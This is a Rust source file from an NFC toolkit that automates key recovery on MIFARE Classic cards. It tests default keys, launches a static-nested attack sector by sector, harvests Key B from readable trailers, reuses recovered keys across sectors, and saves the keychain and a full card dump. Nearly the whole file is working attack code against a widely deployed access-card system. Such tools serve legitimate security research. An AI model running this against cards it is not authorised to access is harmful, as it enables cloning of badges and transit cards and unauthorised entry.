//! The end-to-end key-recovery run: probe what's already open, attack
//! what isn't, propagate every find, then dump.

use std::collections::BTreeSet;
use std::fs::File;
use std::io::Write;
use std::path::PathBuf;

use crate::crypto1::Crypto1Cipher;
use crate::mifare::{
    sector_to_block, Iso14443aCard, MifareCard, MifareClassicDumper, MifareClassicInitiator,
    MifareKey, SectorKey,
};
use crate::utils::bytes_to_string;
use crate::{NfcError, NfcResult};

use super::static_nested;

pub struct InputArguments {
    pub card_type: MifareCard,
    pub force_detect_distance: bool,
    pub dump_keys: Option<PathBuf>,
    pub dump: Option<PathBuf>,
    pub no_default_keys: bool,
    pub user_keys: Vec<u64>,
    pub target_sector: Option<u8>,
    pub target_key_type: Option<MifareKey>,
}

pub struct PwnHost<'t, 'd, 'a> {
    initiator: MifareClassicInitiator<'t, 'd>,
    args: &'a InputArguments,
    card: Iso14443aCard,
    valid_key: SectorKey,
    keychain: BTreeSet<u64>,
    sectors_unknown_key_a: BTreeSet<u8>,
    sectors_unknown_key_b: BTreeSet<u8>,
}

impl<'t, 'd, 'a> PwnHost<'t, 'd, 'a> {
    pub fn new(initiator: MifareClassicInitiator<'t, 'd>, args: &'a InputArguments) -> Self {
        PwnHost {
            initiator,
            args,
            card: Iso14443aCard::default(),
            valid_key: SectorKey {
                sector: 0,
                key_a: None,
                key_b: None,
            },
            keychain: BTreeSet::new(),
            sectors_unknown_key_a: BTreeSet::new(),
            sectors_unknown_key_b: BTreeSet::new(),
        }
    }

    pub fn run(mut self) -> NfcResult<BTreeSet<u64>> {
        self.discover_tag()?;
        self.prepare()?;

        while let Some(&sector) = self.sectors_unknown_key_a.iter().next() {
            self.perform(sector, MifareKey::A)?;
        }
        while let Some(&sector) = self.sectors_unknown_key_b.iter().next() {
            self.perform(sector, MifareKey::B)?;
        }

        println!("Key chain:");
        for key in &self.keychain {
            println!("* {:012X}", key);
        }

        if let Some(path) = &self.args.dump_keys {
            self.write_keys(path.clone())?;
        }
        if let Some(path) = &self.args.dump {
            self.write_dump(path.clone())?;
        }

        Ok(self.keychain)
    }

    fn discover_tag(&mut self) -> NfcResult<()> {
        let card = self
            .initiator
            .select_card(None)?
            .ok_or_else(|| NfcError::Precondition("No tag found.".to_owned()))?;

        println!("ISO14443A-compatible tag selected:");
        println!("    ATQA : {}", bytes_to_string(&card.atqa));
        println!("    UID  : {}", bytes_to_string(&card.uid));
        println!("    SAK  : {}", bytes_to_string(&[card.sak]));

        self.card = card;
        Ok(())
    }

    fn prepare(&mut self) -> NfcResult<()> {
        let test_result = self.initiator.test_default_keys(
            &self.card,
            self.args.card_type,
            &self.args.user_keys,
            self.args.no_default_keys,
        )?;

        let valid_key = test_result
            .iter()
            .find(|skey| skey.key_a.is_some() || skey.key_b.is_some())
            .copied()
            .ok_or_else(|| {
                NfcError::Precondition(
                    "At least 1 valid key is required to perform a staticnested attack."
                        .to_owned(),
                )
            })?;
        self.valid_key = valid_key;

        match (self.args.target_sector, self.args.target_key_type) {
            (Some(sector), Some(key_type)) => {
                if key_type == MifareKey::A {
                    self.sectors_unknown_key_a.insert(sector);
                } else {
                    self.sectors_unknown_key_b.insert(sector);
                }
            }
            _ => {
                self.sectors_unknown_key_a = test_result
                    .iter()
                    .filter(|skey| skey.key_a.is_none())
                    .map(|skey| skey.sector)
                    .collect();
                self.sectors_unknown_key_b = test_result
                    .iter()
                    .filter(|skey| skey.key_b.is_none())
                    .map(|skey| skey.sector)
                    .collect();
                if self.sectors_unknown_key_a.is_empty() && self.sectors_unknown_key_b.is_empty() {
                    return Err(NfcError::Precondition(
                        "It appears there are no sectors with unknown keys.".to_owned(),
                    ));
                }
            }
        }

        for skey in &test_result {
            if let Some(key) = skey.key_a {
                self.keychain.insert(key);
            }
            if let Some(key) = skey.key_b {
                self.keychain.insert(key);
            }
        }

        // Trailers often leave Key B readable under Key A; harvesting those
        // now saves a full nested attack per sector.
        for skey in &test_result {
            if let (Some(key_a), true) = (
                skey.key_a,
                self.sectors_unknown_key_b.contains(&skey.sector),
            ) {
                self.on_key_a_found(skey.sector, key_a)?;
            }
        }

        println!(
            "Using key {} from sector {} to exploit...",
            if valid_key.key_a.is_some() { "A" } else { "B" },
            valid_key.sector
        );

        Ok(())
    }

    fn perform(&mut self, target_sector: u8, target_key_type: MifareKey) -> NfcResult<()> {
        println!("Attacking sector {}...", target_sector);

        let (known_key_type, known_key) = match self.valid_key {
            SectorKey {
                key_a: Some(key), ..
            } => (MifareKey::A, key),
            SectorKey {
                key_b: Some(key), ..
            } => (MifareKey::B, key),
            _ => unreachable!("prepare() guarantees a valid key"),
        };

        let result = static_nested::execute(
            &mut self.initiator,
            &self.card,
            sector_to_block(self.valid_key.sector),
            known_key_type,
            known_key,
            sector_to_block(target_sector),
            target_key_type,
            self.args.force_detect_distance,
        )?;

        if !result.success {
            println!();
            return Err(NfcError::AttackFailed);
        }
        println!(
            "\r\x1B[2KKey{} found, is {:012X}. ({} keys tested)",
            target_key_type, result.key, result.tested_key_count
        );

        match target_key_type {
            MifareKey::A => self.sectors_unknown_key_a.remove(&target_sector),
            MifareKey::B => self.sectors_unknown_key_b.remove(&target_sector),
        };

        self.keychain.insert(result.key);
        self.on_new_key(result.key)?;

        if target_key_type == MifareKey::A && self.sectors_unknown_key_b.contains(&target_sector)
        {
            self.on_key_a_found(target_sector, result.key)?;
        }

        Ok(())
    }

    /// A fresh Key A may open the sector's trailer far enough to read Key B
    /// directly.
    fn on_key_a_found(&mut self, sector: u8, key_a: u64) -> NfcResult<()> {
        if let Some(key_b) = self.try_read_key_b(key_a, sector)? {
            println!(
                "KeyB of sector {} read successfully, is {:012X}. (using KeyA)",
                sector, key_b
            );
            self.sectors_unknown_key_b.remove(&sector);
            self.keychain.insert(key_b);
            self.on_new_key(key_b)?;
        }
        Ok(())
    }

    /// Cross-test a discovered key against every sector still missing one;
    /// keys are reused between sectors often enough to make this worth a
    /// few authentications.
    fn on_new_key(&mut self, key: u64) -> NfcResult<()> {
        let mut cipher = Crypto1Cipher::new();

        for (key_type, sectors) in &mut [
            (MifareKey::A, &mut self.sectors_unknown_key_a),
            (MifareKey::B, &mut self.sectors_unknown_key_b),
        ] {
            let mut solved = Vec::new();
            for &sector in sectors.iter() {
                if self.initiator.test_key(
                    &mut cipher,
                    *key_type,
                    &self.card,
                    sector_to_block(sector),
                    key,
                )? {
                    println!("This key is also Key{} of sector {}.", key_type, sector);
                    solved.push(sector);
                }
            }
            for sector in solved {
                sectors.remove(&sector);
            }
        }

        Ok(())
    }

    /// Authenticate with Key A and read Key B out of the trailer. The
    /// extracted key is only returned once a real authentication with it
    /// succeeds.
    fn try_read_key_b(&mut self, key_a: u64, sector: u8) -> NfcResult<Option<u64>> {
        if self.initiator.select_card(Some(&self.card.uid))?.is_none() {
            return Err(NfcError::TagLost);
        }

        let mut cipher = Crypto1Cipher::new();
        if !self.initiator.auth(
            &mut cipher,
            MifareKey::A,
            &self.card,
            sector_to_block(sector),
            key_a,
            false,
        )? {
            return Ok(None);
        }

        let key_b = match self.initiator.try_get_key_b(&mut cipher, sector) {
            Ok(key) => key,
            Err(NfcError::TagLost) => return Ok(None),
            Err(e) => return Err(e),
        };
        if key_b == 0 {
            return Ok(None);
        }

        if !self.initiator.test_key(
            &mut cipher,
            MifareKey::B,
            &self.card,
            sector_to_block(sector),
            key_b,
        )? {
            return Ok(None);
        }
        Ok(Some(key_b))
    }

    fn write_keys(&mut self, path: PathBuf) -> NfcResult<()> {
        let mut file = File::create(&path)?;
        for key in &self.keychain {
            writeln!(file, "{:012X}", key)?;
        }
        println!("Keys written to {}.", path.display());
        Ok(())
    }

    fn write_dump(&mut self, path: PathBuf) -> NfcResult<()> {
        let keys: Vec<u64> = self.keychain.iter().copied().collect();
        let mut dumper =
            MifareClassicDumper::new(&mut self.initiator, &self.card, self.args.card_type, keys);
        let image = dumper.dump()?;
        std::fs::write(&path, &image)?;
        println!("Card dumped to {}. ({} bytes)", path.display(), image.len());
        Ok(())
    }
}
